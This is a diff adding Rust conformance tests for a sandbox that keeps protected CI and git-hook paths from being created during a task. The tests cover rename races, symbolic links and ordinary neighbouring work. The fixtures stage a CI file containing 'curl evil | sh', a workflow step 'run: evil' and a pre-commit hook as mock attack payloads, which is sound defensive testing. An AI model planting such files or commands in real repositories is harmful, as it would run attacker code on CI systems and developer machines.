@@ -325,6 +325,119 @@ fn protected_paths_in_the_workspace_are_kept(b: Backend) {
     o.assert_ok();
 }
 
+fn race_static() -> &'static std::path::Path {
+    static BIN: OnceLock<std::path::PathBuf> = OnceLock::new();
+    BIN.get_or_init(|| compile_c_static("race_protected"))
+}
+
+/// A workspace with `.git` (no hooks) and `.github` (no workflows), the racer
+/// (tests/support/race_protected.c), and what it renames into place: a CI
+/// file, a workflows directory, a hooks directory.
+fn race_case(b: Backend, name: &str) -> Case {
+    let c = case(b, name);
+    let ws = &c.e.ws;
+    std::fs::copy(race_static(), ws.join("race")).unwrap();
+    std::fs::create_dir_all(ws.join(".git/refs/heads")).unwrap();
+    std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::create_dir_all(ws.join(".github")).unwrap();
+    std::fs::write(ws.join("stage-ci"), "script: curl evil | sh\n").unwrap();
+    std::fs::create_dir_all(ws.join("stage-wf")).unwrap();
+    std::fs::write(ws.join("stage-wf/x.yml"), "on: push\njobs: {evil: {runs-on: x, steps: [{run: evil}]}}\n").unwrap();
+    std::fs::create_dir_all(ws.join("stage-hooks")).unwrap();
+    std::fs::write(ws.join("stage-hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
+    if b.container() {
+        chown_tree(ws, 1000);
+    }
+    c
+}
+
+/// The details of the report's violations, one per line.
+fn details(o: &Out) -> String {
+    o.report["violations"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|v| v["detail"].as_str())
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// SECURITY.md §5.3: a protected path absent when the task starts stays absent
+/// whatever a task racing the supervisor does. The racer renames a prepared
+/// entry to a name another thread rewrites, one byte, from a benign name to the
+/// protected one while the call waits on the supervisor (under `on_violation:
+/// deny`, so it tries again after every refusal: the strongest racer). Past
+/// the supervisor, the host's check after the task finds the entry and removes
+/// it: exit 4, `fs.protected`, nothing left. Without a race the supervisor's
+/// own refusal is what is reported, as before.
+fn a_protected_path_absent_at_the_start_stays_absent_whatever_the_race(b: Backend) {
+    for (src, target) in
+        [("stage-ci", ".gitlab-ci.yml"), ("stage-wf", ".github/workflows"), ("stage-hooks", ".git/hooks")]
+    {
+        let c = race_case(b, "race");
+        let deny = c.policy("deny", "on_violation: deny\n");
+        let o = c.run(&deny, &["./race", src, target]);
+        o.assert_violation("fs.protected");
+        let left = std::fs::symlink_metadata(c.e.ws.join(target));
+        assert!(left.is_err(), "{}: {target} is left after the race\n{}", b.name(), o.all());
+        if o.stdout.contains("ESCAPED") {
+            // Won in the task: the host's check is what saw it.
+            let d = details(&o);
+            assert!(d.contains("a protected path absent when the task started, was created during the task"), "{d}");
+            assert!(d.contains("; removed"), "{d}");
+        }
+        // The rest of the workspace is as the task left it.
+        assert!(c.e.ws.join(".git/HEAD").is_file() && c.e.ws.join(".github").is_dir(), "{}", b.name());
+    }
+    // No race: the supervisor refuses the plain rename, as before.
+    let c = race_case(b, "norace");
+    let deny = c.policy("deny", "on_violation: deny\n");
+    let o = c.run(&deny, &["./race", "stage-ci", ".gitlab-ci.yml", "0"]);
+    o.assert_violation("fs.protected");
+    assert!(o.stdout.contains("blocked rename without a race"), "{}", o.all());
+    assert!(details(&o).contains("a protected path ("), "{}", details(&o));
+    assert!(!c.e.ws.join(".gitlab-ci.yml").exists());
+    assert_eq!(std::fs::read_to_string(c.e.ws.join("stage-ci")).unwrap(), "script: curl evil | sh\n");
+}
+
+/// A link made during the task that leads a protected path somewhere — into
+/// the workspace, or to another project's workflows on the host — is removed
+/// by the host's check after the task (exit 4, `fs.protected`); what it
+/// pointed at is not touched.
+fn a_link_that_makes_an_absent_protected_path_reachable_is_removed(b: Backend) {
+    let c = case(b, "link");
+    let ws = &c.e.ws;
+    let o = c.sh("default", "mkdir -p docs/workflows && echo 'on: push' > docs/workflows/x.yml && ln -s docs .github");
+    o.assert_violation("fs.protected");
+    assert!(std::fs::symlink_metadata(ws.join(".github")).is_err(), "{}: the link is left", b.name());
+    assert_eq!(std::fs::read_to_string(ws.join("docs/workflows/x.yml")).unwrap(), "on: push\n");
+    assert!(details(&o).contains("by ") && details(&o).contains("(a new symbolic link -> docs)"), "{}", details(&o));
+    let other = c.e.root.join("other-project/.github");
+    std::fs::create_dir_all(other.join("workflows")).unwrap();
+    std::fs::write(other.join("workflows/ci.yml"), "on: push\n").unwrap();
+    let o = c.sh("default", &format!("ln -s {} .github", other.display()));
+    o.assert_violation("fs.protected");
+    assert!(std::fs::symlink_metadata(ws.join(".github")).is_err(), "{}: the link is left", b.name());
+    assert_eq!(std::fs::read_to_string(other.join("workflows/ci.yml")).unwrap(), "on: push\n");
+}
+
+/// Ordinary work beside protected paths that were absent is no violation and
+/// is kept: a `.git` without hooks or config, `.github` without workflows,
+/// files at the top of the workspace.
+fn work_beside_absent_protected_paths_is_kept(b: Backend) {
+    let c = case(b, "beside");
+    let ws = &c.e.ws;
+    let script = "set -e; mkdir -p .git/refs/heads .git/objects && echo 'ref: refs/heads/main' > .git/HEAD \
+                  && mkdir -p .github && echo 'Describe the bug' > .github/ISSUE_TEMPLATE.md \
+                  && echo built > out.txt && mkdir -p ci && echo 'not the CI file' > ci/.gitlab-ci.yml.example";
+    let o = c.sh("default", script);
+    o.assert_ok();
+    assert!(ws.join(".git/HEAD").is_file() && ws.join(".git/objects").is_dir(), "{}", b.name());
+    assert_eq!(std::fs::read_to_string(ws.join(".github/ISSUE_TEMPLATE.md")).unwrap(), "Describe the bug\n");
+    assert_eq!(std::fs::read_to_string(ws.join("out.txt")).unwrap(), "built\n");
+    assert!(ws.join("ci/.gitlab-ci.yml.example").is_file());
+}
+
 macro_rules! conformance {
     ($($case:ident),* $(,)?) => {
         mod jail { $( #[test] fn $case() { super::$case(super::Backend::Jail) } )* }
@@ -335,6 +448,9 @@ macro_rules! conformance {
 
 conformance!(
     protected_paths_in_the_workspace_are_kept,
+    a_protected_path_absent_at_the_start_stays_absent_whatever_the_race,
+    a_link_that_makes_an_absent_protected_path_reachable_is_removed,
+    work_beside_absent_protected_paths_is_kept,
     one_off_path_flags_take_effect,
     benign_script_runs_and_writes_the_workspace,
     output_is_relayed_whole_and_in_order,
